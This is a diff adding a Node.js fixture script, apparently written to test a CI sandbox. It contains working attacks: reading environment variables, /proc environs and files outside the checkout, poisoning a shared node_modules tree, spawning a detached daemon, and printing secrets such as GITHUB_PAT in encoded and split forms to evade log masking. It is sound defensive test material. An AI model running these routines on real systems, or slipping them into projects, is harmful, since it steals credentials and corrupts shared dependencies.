@@ -1,0 +1,105 @@
+// A hostile branch's script: every attack the stage sandbox must defeat. Run as
+// `node scripts/hostile.js <attack>...` from the branch's package.json scripts.
+'use strict';
+const fs = require('fs');
+const path = require('path');
+const crypto = require('crypto');
+const { spawn } = require('child_process');
+
+const say = (tag, value) => console.log(`HOSTILE-${tag}: ${JSON.stringify(value)}`);
+
+function walk(dir, found, depth = 0) {
+  if (depth > 8 || found.length > 2000) return;
+  let entries;
+  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
+  for (const entry of entries) {
+    const full = path.join(dir, entry.name);
+    if (entry.isDirectory()) walk(full, found, depth + 1);
+    else if (entry.isFile()) {
+      try { found.push([full, fs.readFileSync(full).subarray(0, 65536).toString('latin1')]); } catch (e) { /* denied */ }
+    }
+  }
+}
+
+const attacks = {
+  // The orchestrator's secrets: from the environment, /proc, and files of the project home.
+  steal() {
+    say('ENV-KEYS', Object.keys(process.env).sort());
+    const environs = [];
+    for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
+      try { environs.push([pid, fs.readFileSync(`/proc/${pid}/environ`, 'latin1')]); } catch (e) { /* denied */ }
+    }
+    say('PROC-ENVIRONS', environs.map(([pid]) => pid));
+    // The checkout is <home>/workspaces/<app>/<sha>/src: the project home is four levels up.
+    const home = path.resolve(process.cwd(), '../../../..');
+    const found = [];
+    for (const dir of [home, '/root', '/tmp', '/run/sevenp-tests']) walk(dir, found);
+    const outside = found.filter(([file]) => !file.startsWith(process.cwd()) && !file.startsWith(process.env.HOME));
+    say('FILES-READ-OUTSIDE', outside.map(([file]) => file).slice(0, 50));
+    // What it read goes where the branch's author can see it: the log.
+    for (const [, text] of [...environs, ...outside]) console.log(text.replace(/\0/g, '\n'));
+  },
+  // Write into the dependency tree every branch shares, and into the cache directly.
+  poison() {
+    const victim = path.join('node_modules', 'victim', 'index.js');
+    fs.appendFileSync(victim, '\nmodule.exports.poisoned = true;\n');
+    fs.mkdirSync(path.join('node_modules', '.cache'), { recursive: true });
+    const home = path.resolve(process.cwd(), '../../../..');
+    let direct = 'not found';
+    try {
+      for (const key of fs.readdirSync(path.join(home, 'cache', 'node_modules'))) {
+        fs.appendFileSync(path.join(home, 'cache', 'node_modules', key, 'node_modules', 'victim', 'index.js'), 'x');
+        direct = 'written';
+      }
+    } catch (e) { direct = e.code; }
+    say('POISON', { victim: require(path.resolve(victim)).poisoned === true, direct });
+  },
+  // The tree as this stage sees it (the other branch checks it is clean).
+  victim() {
+    const text = fs.readFileSync(path.join('node_modules', 'victim', 'index.js'));
+    say('VICTIM-SHA256', crypto.createHash('sha256').update(text).digest('hex'));
+  },
+  // A daemon that leaves the process group and outlives the stage, if it can.
+  daemon() {
+    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', 'HOSTILE_DAEMON_MARKER'],
+      { detached: true, stdio: 'ignore' });
+    child.unref();
+    say('DAEMON', child.pid);
+  },
+  // Every declared secret in every encoded form, one of them split across two lines.
+  encode() {
+    for (const name of ['HOSTILE_NPM_TOKEN', 'GITHUB_PAT']) {
+      const secret = process.env[name];
+      if (!secret) { say('MISSING', name); continue; }
+      const b64 = Buffer.from(secret).toString('base64');
+      const forms = {
+        plain: secret,
+        base64: b64,
+        base64_unpadded: b64.replace(/=+$/, ''),
+        base64url: Buffer.from(secret).toString('base64url'),
+        basic_auth: Buffer.from(`ci-user:${secret}`).toString('base64'),
+        hex: Buffer.from(secret).toString('hex'),
+        hex_upper: Buffer.from(secret).toString('hex').toUpperCase(),
+        url: encodeURIComponent(secret),
+        json: JSON.stringify({ token: secret }),
+      };
+      for (const [form, value] of Object.entries(forms)) console.log(`${name} ${form}=${value}`);
+      const half = Math.floor(secret.length / 2);
+      console.log(`${name} split=${secret.slice(0, half)}`);
+      console.log(`${secret.slice(half)} <- second half`);
+    }
+  },
+  // The first attempt hangs until the run worker is killed; the retry passes.
+  hang() {
+    const marker = path.join(process.cwd(), '.hostile-attempt');
+    if (fs.existsSync(marker)) { say('HANG', 'second attempt passes'); return; }
+    fs.writeFileSync(marker, String(process.pid));
+    say('HANG', 'first attempt hangs');
+    setInterval(() => {}, 1000);
+  },
+};
+
+for (const name of process.argv.slice(2)) {
+  if (!attacks[name]) throw new Error(`unknown attack ${name}`);
+  attacks[name]();
+}
